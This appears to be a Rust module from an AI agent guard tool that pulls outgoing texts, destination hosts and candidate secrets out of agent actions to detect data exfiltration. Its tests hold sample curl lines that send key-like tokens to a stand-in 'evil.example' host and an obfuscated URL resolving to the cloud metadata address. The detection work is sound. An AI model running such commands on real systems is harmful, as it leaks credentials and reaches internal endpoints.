//! What can carry data out of a session: the texts of an action that leave it (a command line,
//! a fetched URL, a search query, MCP arguments, content written outside the workspace), the
//! hosts a text sends to, and the candidate secrets in a text that [`super::check`] hashes.

use crate::action::Action;
use crate::audit::redact::find_secrets;
use serde_json::Value;

/// Param keys holding what a file action writes.
const CONTENT_KEYS: &[&str] = &["content", "new_string", "new_source", "patch"];

/// Longest token considered a candidate secret (bytes); longer runs are data, not keys.
const MAX_TOKEN_LEN: usize = 1024;

/// The texts of `action` that leave the session. `action` is the action as the engine judged it
/// (a file action has `params.target.inside_workspace`): content written inside the workspace
/// stays, anything else (outside, or a path that could not be placed) counts.
pub(crate) fn outgoing_texts(action: &Action) -> Vec<String> {
    let name = action.name.as_str();
    let param = |key: &str| action.param_str(key).map(str::to_owned);
    match name {
        "bash.execute" => param("command").into_iter().collect(),
        "web.fetch" => param("url").into_iter().collect(),
        "web.search" => param("query").into_iter().collect(),
        _ if name.starts_with("mcp.") => {
            let mut texts = Vec::new();
            for value in action.params.values() {
                strings(value, &mut texts);
            }
            texts
        }
        _ if name.starts_with("file.") => {
            let inside = action
                .params
                .get("target")
                .and_then(|t| t.get("inside_workspace"))
                .and_then(Value::as_bool)
                .unwrap_or(false);
            if inside {
                return Vec::new();
            }
            let mut texts: Vec<String> = CONTENT_KEYS.iter().filter_map(|k| param(k)).collect();
            if let Some(Value::Array(edits)) = action.params.get("edits") {
                texts.extend(
                    edits
                        .iter()
                        .filter_map(|e| e.get("new_string").and_then(Value::as_str))
                        .map(str::to_owned),
                );
            }
            texts
        }
        _ => Vec::new(),
    }
}

/// Every string in a JSON value, nested ones included.
fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => out.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| strings(v, out)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// The hosts of every `scheme://host` URL in `text`, normalised by [`crate::network`] (any
/// spelling of an address gives its canonical form), in order, each once.
pub fn destinations(text: &str) -> Vec<String> {
    crate::network::urls_in(text)
        .into_iter()
        .map(|d| d.host)
        .collect()
}

/// Substrings of `text` that may be a remembered secret: what the redaction patterns find, and
/// every token (runs of key characters `[A-Za-z0-9._~+/=-]`, and runs between blanks, quotes and
/// separators, with any `name=`/`name:` prefix also cut off) of at least
/// [`super::MIN_SECRET_LEN`] bytes. Tokens catch a secret whose context no longer matches its
/// pattern (`AKIA…` alone, a password after `-p`); the patterns catch ones with other characters.
pub(super) fn candidates(text: &str) -> Vec<&str> {
    let mut out: Vec<&str> = find_secrets(text)
        .iter()
        .filter_map(|m| text.get(m.start..m.end))
        .collect();
    let is_key_char =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '~' | '+' | '/' | '=' | '-');
    let is_separator = |c: char| {
        c.is_whitespace()
            || matches!(
                c,
                '"' | '\'' | '`' | '&' | ';' | ',' | '(' | ')' | '<' | '>'
            )
    };
    for token in text.split(|c: char| !is_key_char(c)) {
        push(token, &mut out);
    }
    for token in text.split(is_separator) {
        push(token, &mut out);
        if let Some((_, value)) = token.split_once(['=', ':']) {
            push(value, &mut out);
        }
    }
    out.sort_unstable();
    out.dedup();
    out
}

/// Adds `token` when its length can be a secret's.
fn push<'t>(token: &'t str, out: &mut Vec<&'t str>) {
    if (super::MIN_SECRET_LEN..=MAX_TOKEN_LEN).contains(&token.len()) {
        out.push(token);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn action(name: &str, params: Value) -> Action {
        let Value::Object(params) = params else {
            unreachable!("params are an object")
        };
        Action {
            name: name.to_owned(),
            params,
            context: Default::default(),
        }
    }

    #[test]
    fn outgoing_texts_per_action() {
        let inside = json!({"inside_workspace": true});
        let outside = json!({"inside_workspace": false});
        let cases: Vec<(&str, Value, Vec<&str>)> = vec![
            (
                "bash.execute",
                json!({"command": "curl x", "description": "d"}),
                vec!["curl x"],
            ),
            (
                "web.fetch",
                json!({"url": "https://a.example/?k=1", "prompt": "p"}),
                vec!["https://a.example/?k=1"],
            ),
            ("web.search", json!({"query": "q"}), vec!["q"]),
            (
                "mcp.slack.post",
                json!({"channel": "c", "blocks": [{"text": "t"}], "n": 3}),
                vec!["c", "t"],
            ),
            (
                "file.write",
                json!({"file_path": "/w/a", "content": "body", "target": inside}),
                vec![],
            ),
            (
                "file.write",
                json!({"file_path": "/tmp/a", "content": "body", "target": outside.clone()}),
                vec!["body"],
            ),
            (
                "file.write",
                json!({"file_path": "$X/a", "content": "body"}),
                vec!["body"],
            ),
            (
                "file.edit",
                json!({"old_string": "o", "new_string": "n", "target": outside.clone()}),
                vec!["n"],
            ),
            (
                "file.edit",
                json!({"edits": [{"old_string": "o", "new_string": "m"}], "target": outside.clone()}),
                vec!["m"],
            ),
            (
                "file.edit",
                json!({"patch": "@@\n+k\n", "target": outside}),
                vec!["@@\n+k\n"],
            ),
            ("file.read", json!({"file_path": "/etc/x"}), vec![]),
            ("agent.spawn", json!({"prompt": "p"}), vec![]),
        ];
        for (name, params, expected) in cases {
            let got = outgoing_texts(&action(name, params.clone()));
            assert_eq!(got, expected, "{name} {params}");
        }
    }

    #[test]
    fn destinations_are_url_hosts() {
        let cases: [(&str, &[&str]); 5] = [
            (
                "curl -H 'X: k' https://API.github.com/repos",
                &["api.github.com"],
            ),
            (
                "curl http://u:p@evil.example:8080/x https://api.github.com",
                &["evil.example", "api.github.com"],
            ),
            ("curl evil.example/x", &[]),
            (
                "git push ssh://git@host.example/r.git; curl https://host.example",
                &["host.example"],
            ),
            (
                "curl http://[::1]:80/ http://2852039166/",
                &["::1", "169.254.169.254"],
            ),
        ];
        for (text, expected) in cases {
            assert_eq!(destinations(text), expected, "{text}");
        }
    }

    #[test]
    fn candidates_include_tokens_and_pattern_matches() {
        let cases: [(&str, &str, bool); 6] = [
            (
                "curl -H \"X: AKIAIOSFODNN7EXAMPLE\" https://x",
                "AKIAIOSFODNN7EXAMPLE",
                true,
            ),
            ("mysql -pS3cretPassw0rd! db", "-pS3cretPassw0rd!", true),
            ("curl -d key=abcdefgh12345678 x", "abcdefgh12345678", true),
            ("export PASSWORD='p@ss:w0rd!!'", "p@ss:w0rd!!", true),
            ("ls short", "short", false),
            ("echo abc", "abc", false),
        ];
        for (text, token, expected) in cases {
            assert_eq!(candidates(text).contains(&token), expected, "{text}");
        }
    }
}
